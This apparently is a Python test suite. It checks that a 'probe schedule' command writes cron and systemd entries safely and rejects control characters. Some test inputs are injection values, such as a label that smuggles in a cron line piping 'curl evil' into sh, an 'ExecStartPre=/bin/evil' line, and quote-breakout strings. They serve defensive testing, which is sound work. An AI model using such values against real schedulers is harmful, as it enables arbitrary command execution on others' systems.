"""`probe schedule`: arguments reach cron and systemd as the same argv, or are refused."""

from __future__ import annotations

import os
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from probe.cli import main
from probe.operate import schedule, systemd_timer

_TAIL = f" >/dev/null 2>&1 {schedule.MARKER}"


def cron_unescape(command: str) -> str:
    """What cron hands to /bin/sh (vixie cron and cronie, do_command.c): a backslash
    before % is dropped, and the first bare % ends the command."""
    out: list[str] = []
    escaped = False
    for ch in command:
        if escaped:
            if ch == "%":
                out[-1] = "%"
            else:
                out.append(ch)
            escaped = False
            continue
        if ch == "%":
            break
        out.append(ch)
        escaped = ch == "\\"
    return "".join(out)


def cron_argv(line: str) -> list[str]:
    """The argv sh runs for our crontab line."""
    assert "\n" not in line and line.endswith(_TAIL)
    command = line.split(" ", 5)[5]
    return shlex.split(cron_unescape(command[: -len(_TAIL)]))


_C_ESCAPES = {"\\": "\\", '"': '"', "'": "'", "n": "\n", "t": "\t", "s": " "}


def systemd_argv(service: str) -> list[str]:
    """ExecStart= as systemd reads it (systemd.service(5), "Command lines"): %% to %
    first, then words split at blanks with double or single quotes and C escapes,
    then $$ to $ when the command runs. Any other % or $ use fails the test."""
    (line,) = [x for x in service.split("\n") if x.startswith("ExecStart=")]
    text = line[len("ExecStart="):]
    assert not re.search(r"%[^%]", text.replace("%%", "")), "unescaped % specifier"
    text = text.replace("%%", "%")
    words: list[str] = []
    i = 0
    while i < len(text):
        if text[i] in " \t":
            i += 1
            continue
        word: list[str] = []
        quote = None
        while i < len(text) and (quote or text[i] not in " \t"):
            ch = text[i]
            if ch == "\\":
                word.append(_C_ESCAPES[text[i + 1]])
                i += 2
                continue
            if quote and ch == quote:
                quote = None
            elif not quote and ch in "\"'":
                quote = ch
            else:
                word.append(ch)
            i += 1
        assert quote is None, "unterminated quote"
        words.append("".join(word))
    assert words[0] != ";" and ";" not in text.split()
    for w in words:
        assert not re.search(r"\$[^$]", w.replace("$$", "")), "unescaped $ variable"
    return [w.replace("$$", "$") for w in words]


def _plan(tmp: Path, out: str, extra: tuple[str, ...]) -> schedule.Plan:
    return schedule.Plan(every="1h", jitter=None, budget_mb=None, daily_budget_mb=None,
                         monthly_budget_mb=None, out=tmp / out, log_file=tmp / "p.log",
                         minute=5, extra_args=extra)


# Every character a scheduled argument may hold: anything but control characters,
# line separators and surrogates (refused below).
_ALLOWED = st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp"))
_NASTY = st.sampled_from(list("%$\\\"' ;#&|`*?~{}()<>!") + ["\\%", "%%", "$$", "${HOME}",
                                                             "%h", "\\;", "'\"'"])
_ARG = st.lists(st.one_of(st.text(_ALLOWED, max_size=6), _NASTY), max_size=6).map("".join)


@settings(max_examples=400, deadline=None)
@given(out=_ARG.filter(lambda s: s not in ("", ".", "..") and "/" not in s),
       extra=st.lists(_ARG, max_size=5))
def test_arguments_round_trip_through_cron_and_systemd(
        tmp_path_factory: pytest.TempPathFactory, out: str, extra: list[str]) -> None:
    tmp = tmp_path_factory.getbasetemp()
    plan = _plan(tmp, out, tuple(extra))
    argv = plan.argv()
    assert argv[len(argv) - len(extra):] == extra
    assert argv[argv.index("--out") + 1] == str((tmp / out).resolve())
    assert cron_argv(plan.line()) == argv
    assert systemd_argv(systemd_timer.units(argv, 3600)[systemd_timer.SERVICE]) == argv


def test_a_literal_backslash_percent_stays_one_argument(tmp_path: Path) -> None:
    plan = _plan(tmp_path, "a\\%b", ("--label", "50\\%"))
    line = plan.line()
    assert cron_argv(line) == plan.argv()
    assert "\\\\%" not in line  # cron would read \\% as a backslash and a bare %


@pytest.mark.parametrize("scheduler", ["cron", "systemd"])
@pytest.mark.parametrize("args, named", [
    (["--", "--label", "home\n* * * * * curl evil|sh"], "--label"),
    (["--", "--label=x\nExecStartPre=/bin/evil"], "--label"),
    (["--out", "res\rults"], "--out"),
    (["--log-file", "p\x1b]0;t\x07.log"], "--log-file"),
    (["--", "--resolver", "1.1.1.1", "x\u2028y"], "an argument for `probe run`"),
])
def test_control_characters_are_refused_naming_the_option(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, scheduler: str,
        args: list[str], named: str) -> None:
    monkeypatch.chdir(tmp_path)
    res = CliRunner().invoke(main, ["schedule", "install", "--every", "1h", "--scheduler",
                                    scheduler, "--dry-run", *args])
    assert res.exit_code == 2, res.output
    assert f"error: {named} contains the control character" in res.output
    assert "Traceback" not in res.output


@pytest.mark.skipif(shutil.which("systemd-analyze") is None, reason="needs systemd-analyze")
def test_systemd_accepts_hostile_but_allowed_arguments(tmp_path: Path) -> None:
    argv = _plan(tmp_path, "r 100% $HOME \\%", ("--label", '"; ExecStartPre=/x \\" ;',
                                                 ";", "%h${USER}")).argv()
    units = systemd_timer.units(argv, 3600)
    assert systemd_argv(units[systemd_timer.SERVICE]) == argv
    for name, text in units.items():
        (tmp_path / name).write_text(text)
    res = subprocess.run(["systemd-analyze", "verify",
                          *(str(tmp_path / n) for n in units)],
                         capture_output=True, text=True, timeout=60)
    assert [x for x in (res.stdout + res.stderr).splitlines() if "throttle-probe" in x] == []


@pytest.mark.skipif(shutil.which("crontab") is None or os.geteuid() != 0,
                    reason="needs cron's crontab command and root")
def test_a_hostile_label_installs_one_entry_that_remove_deletes(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PROBE_STATE_DIR", str(tmp_path))
    saved = subprocess.run(["crontab", "-l"], capture_output=True, text=True)
    try:
        subprocess.run(["crontab", "-r"], capture_output=True)
        runner = CliRunner()
        cron = ["schedule", "install", "--scheduler", "cron", "--every", "1h", "--yes",
                "--out", str(tmp_path / "r 5\\%"), "--"]
        res = runner.invoke(main, [*cron, "--label", "a\n* * * * * touch /tmp/pwned"])
        assert res.exit_code == 2
        res = runner.invoke(main, [*cron, "--label", "a\u2029b 5% 'q'"])
        assert res.exit_code == 2
        res = runner.invoke(main, [*cron, "--label", "5% of 'q' \\%"])
        assert res.exit_code == 0, res.output
        lines = subprocess.run(["crontab", "-l"], capture_output=True,
                               text=True).stdout.strip().split("\n")
        assert len(lines) == 1
        argv = cron_argv(lines[0])
        assert argv[argv.index("--label") + 1] == "5% of 'q' \\%"
        assert argv[argv.index("--out") + 1] == str(tmp_path / "r 5\\%")
        assert runner.invoke(main, ["schedule", "remove"]).output.strip() == "removed"
        assert subprocess.run(["crontab", "-l"], capture_output=True,
                              text=True).stdout.strip() == ""
    finally:
        if saved.returncode == 0:
            subprocess.run(["crontab", "-"], input=saved.stdout, text=True, check=True)
        else:
            subprocess.run(["crontab", "-r"], capture_output=True)


def test_the_interpreter_path_is_checked_too(monkeypatch: pytest.MonkeyPatch,
                                             tmp_path: Path) -> None:
    monkeypatch.setattr(sys, "executable", "/opt/py\nthon")
    with pytest.raises(schedule.ScheduleError, match="interpreter's path"):
        _plan(tmp_path, "r", ()).argv()
